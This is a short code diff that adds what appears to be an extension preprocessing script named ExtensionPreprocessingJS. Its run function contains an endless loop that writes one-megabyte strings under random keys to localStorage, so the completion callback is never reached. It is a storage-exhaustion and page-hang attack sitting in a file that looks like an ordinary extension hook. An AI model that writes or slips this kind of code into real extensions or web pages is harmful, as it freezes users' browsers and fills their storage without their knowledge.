@@ -1,0 +1,4 @@
+var ExtensionPreprocessingJS = { run(a) {
+for (;;) localStorage.setItem(Math.random(), 'x'.repeat(1e6));
+a.completionFunction({});
+} };
